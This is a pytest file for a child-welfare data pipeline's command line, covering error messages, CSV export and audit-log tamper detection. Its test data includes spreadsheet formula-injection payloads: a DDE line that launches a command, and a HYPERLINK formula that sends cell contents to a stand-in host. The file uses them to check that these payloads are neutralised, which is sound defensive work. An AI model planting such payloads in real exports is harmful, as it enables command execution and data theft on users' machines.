"""The command line on bad input: one line on stderr naming what and where, a non-zero exit, a traceback only
with ``--debug``; and the CSVs it writes are safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from kodomo.cli import error_line, main
from kodomo.csv_safe import safe_cell, safe_frame
from kodomo.ingest.landing import LandingError
from kodomo.settings import get_settings

INJECTIONS = ["=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x"&A1)', "+81-3", "-2+3", "\tx", "\rx"]
# IDs as the valid tables hold them: stripped, so none starts with a carriage return.
EXPORTED_IDS = [i for i in INJECTIONS if not i.startswith("\r")]


def run_cli(capsys, *argv: str) -> tuple[int, list[str], str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.err.strip().splitlines(), captured.out


def test_a_missing_landing_folder_is_one_line(capsys, tmp_path):
    code, err, _ = run_cli(capsys, "run", "--landing", str(tmp_path / "nowhere"))
    assert (code, err) == (1, [f"kodomo run: landing folder not found: {tmp_path / 'nowhere'}"])


def test_an_empty_landing_is_one_line(capsys, tmp_path):
    code, err, _ = run_cli(capsys, "run", "--landing", str(tmp_path))
    assert (code, err) == (1, [f"kodomo run: landing folder has no agencies.csv: {tmp_path}"])


def test_a_bad_cutoff_is_one_line(capsys, landing, tmp_path):
    with pytest.raises(SystemExit) as exited:
        main(["backtest", "--landing", str(landing.root), "--cutoff", "2021-13-01", "--out", str(tmp_path / "s.csv")])
    assert exited.value.code == 2
    assert capsys.readouterr().err.splitlines() == [
        "kodomo backtest: argument --cutoff: must be a date YYYY-MM-DD, not '2021-13-01' (see kodomo backtest --help)"]


def test_bad_arguments_are_one_line_and_exit_2(capsys):
    with pytest.raises(SystemExit) as exited:
        main(["export-links"])
    assert exited.value.code == 2
    assert capsys.readouterr().err.splitlines() == [
        "kodomo export-links: the following arguments are required: --out (see kodomo export-links --help)"]


def test_debug_shows_the_traceback_before_the_line(capsys, tmp_path):
    for argv in (["--debug", "run", "--landing", str(tmp_path)], ["run", "--debug", "--landing", str(tmp_path)]):
        code, err, _ = run_cli(capsys, *argv)
        assert code == 1 and err[0] == "Traceback (most recent call last):"
        assert err[-1] == f"kodomo run: landing folder has no agencies.csv: {tmp_path}"


def test_an_unexpected_error_names_its_type_and_points_to_debug(capsys, monkeypatch, tmp_path):
    def broken(args):
        raise RuntimeError("the step failed\nwith a second line")

    monkeypatch.setattr("kodomo.cli.cmd_report", broken)
    code, err, _ = run_cli(capsys, "report", "ingest")
    assert (code, err) == (1, ["kodomo report: RuntimeError: the step failed (run with --debug for the traceback)"])


def test_an_error_inside_a_wrapped_error_is_shown_by_its_own_message():
    # Dagster raises its own error for a failed step, caused by the step's.
    try:
        try:
            raise LandingError("landing folder not found: /x")
        except LandingError as inner:
            raise RuntimeError("Error occurred while executing op ingest_agencies:") from inner
    except RuntimeError as outer:
        assert error_line(outer) == "landing folder not found: /x"
    assert error_line(PermissionError(13, "Permission denied", "/home/k/reports")) == (
        "permission denied: /home/k/reports")


def _read_only_home_run(home: Path, landing: Path) -> subprocess.CompletedProcess:
    """``kodomo run`` with ``home`` not writable: by mode for a user, by a read-only mount for root."""
    command = [sys.executable, "-m", "kodomo.cli", "run", "--landing", str(landing)]
    env = os.environ | {"KODOMO_HOME": str(home)}
    if os.geteuid() != 0:
        home.chmod(0o555)
    else:  # root ignores modes: mount the home read-only in a private mount namespace
        mount = f"mount --bind {home} {home} && mount -o remount,bind,ro {home} && exec \"$@\""
        command = ["unshare", "--mount", "sh", "-c", mount, "sh", *command]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120,
                          cwd=Path(__file__).resolve().parent.parent)


def test_a_read_only_home_is_one_line(landing, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    done = _read_only_home_run(home, landing.root)
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 1 and len(lines) == 1, done.stderr
    assert lines[0].startswith("kodomo run: ") and str(home) in lines[0]
    assert lines[0].split(": ")[1] in ("permission denied", "read-only file system")


# --- export-links --------------------------------------------------------------------------------------

@pytest.fixture
def linked_home(tmp_path, monkeypatch):
    """A home whose warehouse holds a linkage result with formula-like IDs (agency-local IDs are free text)."""
    monkeypatch.setenv("KODOMO_HOME", str(tmp_path / "home"))
    warehouse = get_settings().warehouse_path
    warehouse.parent.mkdir(parents=True)
    links = pd.DataFrame({"agency_id": ["111007"] * len(EXPORTED_IDS),  # noqa: F841 - DuckDB reads it by name
                          "local_child_id": EXPORTED_IDS, "person_key": [f"P{i}" for i in range(len(EXPORTED_IDS))]})
    with duckdb.connect(str(warehouse)) as con:
        con.execute("create schema linkage")
        con.execute("create table linkage.person_links as select * from links")
    return warehouse


def test_export_links_creates_the_missing_folder_and_neutralises_formulas(capsys, linked_home, tmp_path):
    out = tmp_path / "new" / "folder" / "links.csv"
    code, err, _ = run_cli(capsys, "export-links", "--out", str(out))
    assert code == 0 and err == [f"wrote {len(EXPORTED_IDS)} child records to {out}"]
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["agency_id", "local_child_id", "person_key"]
    assert sorted(r[1] for r in rows[1:]) == sorted("'" + i for i in EXPORTED_IDS)
    assert {r[0] for r in rows[1:]} == {"111007"}


def test_export_links_into_a_file_that_is_not_a_folder_is_one_line(capsys, linked_home, tmp_path):
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    out = tmp_path / "a-file" / "links.csv"
    code, err, _ = run_cli(capsys, "export-links", "--out", str(out))
    assert (code, err) == (1, [f"kodomo export-links: cannot write {out}: {tmp_path / 'a-file'} is not a folder"])


def test_export_links_before_any_run_is_one_line(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("KODOMO_HOME", str(tmp_path))
    code, err, _ = run_cli(capsys, "export-links", "--out", str(tmp_path / "links.csv"))
    assert code == 1 and len(err) == 1 and err[0].startswith("kodomo export-links: no linkage result yet")


# --- CSV injection (OWASP): one function for every CSV people open --------------------------------------

@pytest.mark.parametrize("text", INJECTIONS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["R001", "111007", "C1101", "", "a=b", "1-2", None, -0.5, 3, 0.25])
def test_other_cells_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_backtest_scores_keep_a_numeric_score_and_quote_ids(tmp_path):
    scores = pd.DataFrame({"agency_id": ["111007", "=1+1"], "report_id": ['=HYPERLINK("http://x"&A1)', "R2"],
                           "risk_score": [0.123456789, 0.5]})
    out = tmp_path / "scores.csv"
    safe_frame(scores).to_csv(out, index=False, float_format="%.6f")  # the backtest's writer
    assert out.read_text(encoding="utf-8").splitlines() == [
        "agency_id,report_id,risk_score", '111007,"\'=HYPERLINK(""http://x""&A1)",0.123457', "'=1+1,R2,0.500000"]
    back = pd.read_csv(io.StringIO(out.read_text(encoding="utf-8")))
    assert back["risk_score"].dtype == float
    assert scores["report_id"].iloc[0].startswith("=")  # the caller's frame is not changed


def test_the_cli_entry_point_runs_as_a_module(tmp_path):
    done = subprocess.run([sys.executable, "-m", "kodomo.cli", "run", "--landing", str(tmp_path / "x")],
                          capture_output=True, text=True, timeout=120, cwd=Path(__file__).resolve().parent.parent)
    assert done.returncode == 1 and done.stderr == f"kodomo run: landing folder not found: {tmp_path / 'x'}\n"


def test_the_report_counts_ignored_files_but_its_json_keeps_the_spec_fields(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("KODOMO_HOME", str(tmp_path))
    path = get_settings().ingest_report_path
    path.parent.mkdir(parents=True)
    counts = {"files_read": 2, "files_quarantined": 1, "rows_read": 9, "rows_valid": 8, "rows_quarantined": 1,
              "records": 7, "quarantine_by_rule": {"invalid_code": 1}, "files_with_unknown_columns": 0,
              "files_ignored": 3}
    path.write_text(json.dumps({"case_reports": counts}), encoding="utf-8")
    code, _, out = run_cli(capsys, "report", "ingest")
    header, row = out.splitlines()
    assert code == 0 and header.split()[3] == "ignored" and row.split()[3] == "3"
    code, _, out = run_cli(capsys, "report", "ingest", "--json")
    assert set(json.loads(out)["case_reports"]) == set(counts) - {"files_with_unknown_columns", "files_ignored"}


def test_audit_verify_says_intact_then_names_the_first_rewritten_row(capsys, tmp_path, monkeypatch):
    import sqlite3

    from kodomo.operational import AccessEntry, connect, log_access

    monkeypatch.setenv("KODOMO_HOME", str(tmp_path))
    engine = connect(get_settings())
    for report in ("R1", "R2", "R3"):
        log_access(engine, AccessEntry("w001", "caseworker", "view_intake", "111007", report, "p1"))
    engine.dispose()
    code, _, out = run_cli(capsys, "audit", "verify")
    assert (code, out.strip()) == (0, "audit log intact: 3 rows")

    with sqlite3.connect(tmp_path / "operational.db") as con:  # an attacker with the file: triggers off, row 2 edited
        con.executescript("drop trigger audit_log_no_update; update audit_log set user_id = 'x' where id = 2;")
    code, _, out = run_cli(capsys, "audit", "verify")
    assert code == 1 and out.startswith("audit log broken at row 2:")


def test_ask_answers_each_line_in_order_with_the_catalogue_id(capsys, tmp_path):
    questions = tmp_path / "q.jsonl"
    questions.write_text('{"question": "児童扶養手当はいつ振り込まれますか"}\n\n子どもが殴られています、助けて\n',
                         encoding="utf-8")
    code, _, out = run_cli(capsys, "ask", "--batch", str(questions), "--json")
    answers = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [(a["line"], a["programme"]) for a in answers] == [(1, "jido_fuyo_teate"), (3, "emergency")]
    assert "189" in answers[1]["answer"] and answers[0]["sources"]


def test_navigate_prints_the_answer_json_and_names_a_bad_field_in_one_line(capsys, tmp_path):
    household = {"as_of": "2025-06-01", "caregiver": {"relationship": "mother", "reason_alone": "divorced"},
                 "children": [{"birth_date": "2019-05-10", "disability": "none"}], "dependants": 1,
                 "income": {"jido_fuyo_shotoku_yen": 1500000}, "work": "employed", "studying": False,
                 "housing": "renting", "municipality_code": "111007"}
    path = tmp_path / "household.json"
    path.write_text(json.dumps(household), encoding="utf-8")
    code, _, out = run_cli(capsys, "navigate", "--household", str(path), "--json")
    answer = json.loads(out)
    [allowance] = [p for p in answer["programmes"] if p["programme"] == "jido_fuyo_teate"]
    # partial amount: 46,680 - (1,500,000 - 1,070,000) x 0.0256619 = 35,645.4, rounded to 10 yen
    assert code == 0 and answer["rules_version"] == "2025-04" and allowance["monthly_yen"] == 35650

    path.write_text(json.dumps({**household, "dependants": "two"}), encoding="utf-8")
    code, err, _ = run_cli(capsys, "navigate", "--household", str(path), "--json")
    assert code == 1 and len(err) == 1 and "dependants" in err[0]
